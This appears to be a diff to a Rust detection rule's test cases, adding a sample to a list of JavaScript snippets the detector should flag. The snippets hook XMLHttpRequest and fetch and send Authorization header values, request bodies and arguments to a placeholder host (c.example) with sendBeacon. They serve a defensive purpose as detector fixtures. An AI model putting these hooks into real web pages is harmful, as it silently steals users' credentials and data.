@@ -18,6 +18,7 @@ pub(super) const SIGNAL: Signal = Signal {
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
+            "const own=XMLHttpRequest.prototype.setRequestHeader;XMLHttpRequest.prototype.setRequestHeader=function(k,v){if(k.toLowerCase()=='authorization')navigator.sendBeacon('https://c.example/a',v);return own.apply(this,arguments)}",
             "(function XMLHttpRequest(){})();{class A{}function XMLHttpRequest(){}}if(0)var XMLHttpRequest=function(){};var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
             "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
             "const f=window.fetch;window.fetch=function(...a){f('https://c.example/x');log(a);return f.apply(this,a)};function log(a){navigator.sendBeacon('https://c.example/l',JSON.stringify(a))}",
